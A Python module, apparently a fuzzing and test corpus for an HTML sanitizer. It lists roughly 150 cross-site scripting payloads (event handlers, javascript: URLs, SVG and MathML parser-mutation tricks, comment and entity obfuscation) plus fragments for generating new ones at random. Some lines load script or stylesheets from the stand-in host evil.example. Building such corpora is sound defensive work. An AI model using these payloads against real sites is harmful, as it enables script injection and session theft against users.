"""Attacks by HTML in a message, and the pieces that new ones are put together from."""

from __future__ import annotations

_BLOCK = r"""
<script>alert(1)</script>
<SCRIPT SRC=http://evil.example/x.js></SCRIPT>
<script>alert(1)
<script
<script/x>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script><!--<script></script>--></script>
</script><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img src="x"onerror="alert(1)">
<IMG SRC="javascript:alert(1)">
<image src=x onerror=alert(1)>
<img ""><script>alert(1)</script>">
<img src=x:alert(1) onerror=eval(src)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>go</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<html onmouseover=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<applet code=x></applet>
<a href=javascript:alert(1)>x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java	script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=data:text/html,<script>alert(1)</script>>x</a>
<a href=vbscript:msgbox(1)>x</a>
<a href="http://x" onclick=alert(1)>x</a>
<a href="http://x" style="position:fixed;inset:0">x</a>
<a title="</a><img src=x onerror=alert(1)>">x</a>
<a title='x' id=y class=z target=_blank>x</a>
<b onmouseover=alert(1)>x</b>
<b/onmouseover=alert(1)>x
<b	onmouseover=alert(1)>x
<b style="background:url(//evil.example)">x</b>
<p onclick="alert(1)">x</p>
<br onclick=alert(1)>
<br style="x">
<ul onclick=alert(1)><li id=x>a</ul>
<code onfocus=alert(1) tabindex=0 autofocus>
<pre onpointerenter=alert(1)>x</pre>
<div onclick=alert(1)>x</div>
<div style="width:expression(alert(1))">x</div>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<video src=x onerror=alert(1)>
<audio src=x onerror=alert(1)>
<input onfocus=alert(1) autofocus>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<textarea></textarea><script>alert(1)</script>
<keygen onfocus=alert(1) autofocus>
<marquee onstart=alert(1)>
<button formaction=javascript:alert(1)>x
<form action=javascript:alert(1)><input type=submit>
<isindex action=javascript:alert(1) type=image>
<link rel=stylesheet href=//evil.example/x.css>
<style>@import '//evil.example/x.css';</style>
<style></style><img src=x onerror=alert(1)>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href=//evil.example/>
<frameset onload=alert(1)>
<frame src=javascript:alert(1)>
<table background=javascript:alert(1)>
<td onclick=alert(1)>x
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<plaintext><img src=x onerror=alert(1)>
<template><img src=x onerror=alert(1)></template>
<select><template><script>alert(1)</script></template></select>
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>-->
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<img src=x onerror=alert(1)>]]>
<![><img src=x onerror=alert(1)>
<?xml ><img src=x onerror=alert(1)>
<!doctype x><img src=x onerror=alert(1)>
</ <img src=x onerror=alert(1)>
</x <img src=x onerror=alert(1)>
<% <img src=x onerror=alert(1)> %>
<Enter onmouseover=alert(1)>x
<Enter onmouseover = "alert(1)">x
<Enter/onmouseover=alert(1)>x
<Enter onmouseover=alert(1) x
<x onclick=alert(1)>click</x>
<x:y onclick=alert(1)>
<a.b onclick=alert(1)>
<custom-element onclick=alert(1)>
<é onclick=alert(1)><e\u0301 onclick=alert(1)>
<x a="<img src=x onerror=alert(1)>">
<x a='><img src=x onerror=alert(1)>'>
<x a=`><img src=x onerror=alert(1)>`>
<x =onclick=alert(1)>
<x " onclick=alert(1)>
<x ' onclick=alert(1) '>
<x "="" onclick=alert(1)>
<x y=1onclick=alert(1) onclick=alert(1)>
<https://evil.example/onclick=alert(1)>
<https://evil.example/?x=1 onclick=alert(1)>
<https://evil.example/?x="
<me@evil.example onclick=alert(1)>
<x style="position:fixed;inset:0">
<x v-html="alert(1)"><x :is="y"><x @click="alert(1)">
<x x-init="alert(1)"><x hx-get=/x><x ng-init="alert(1)">
<x contenteditable autofocus onfocus=alert(1)>
<x is=y id=z class=a>
<b <img src=x onerror=alert(1)>
<b a="<script>alert(1)</script>">
<a<b onclick=alert(1)>
<<<<img src=x onerror=alert(1)>>>>
x<y onclick=alert(1) and z>0
press <Del onclick=alert(1)> now
<del onclick=alert(1)>x</del>
<o:p onclick=alert(1)>x</o:p><p>y</p>
<v:rect style="behavior:url(#default#VML)" onclick=alert(1)><p>y</p>
<span>&lt;script&gt;alert(1)&lt;/script&gt;</span>
<span>&lt;img src=x onerror=alert(1)&gt;</span>
<span>&lt;x onclick=alert(1)&gt;</span>
<span>&#60;script&#62;alert(1)&#60;/script&#62;</span>
<span>&amp;lt;script&amp;gt;</span>
"""

ATTACKS = tuple(line for line in _BLOCK.split("\n") if line)

# Put together at random, they make what nobody thought of.
_MARKS = r"""< < </ > > / = " ' ` & a b p br i img script style svg math div td table tr li ul
textarea title template noscript iframe select option x Enter o:p form on onerror onclick=alert(1)
src=x href=javascript:alert(1) style=x title= class=y http://h/?a=1 a@b.c <!-- --> --!> <!> <?
<![CDATA[ ]]> <!doctype &lt; &gt; &#60; &quot; text mglyph annotation-xml foreignObject 1 - : """
PIECES = (*_MARKS.split(), " ", " ", "\n", "\t", "\f", "é")
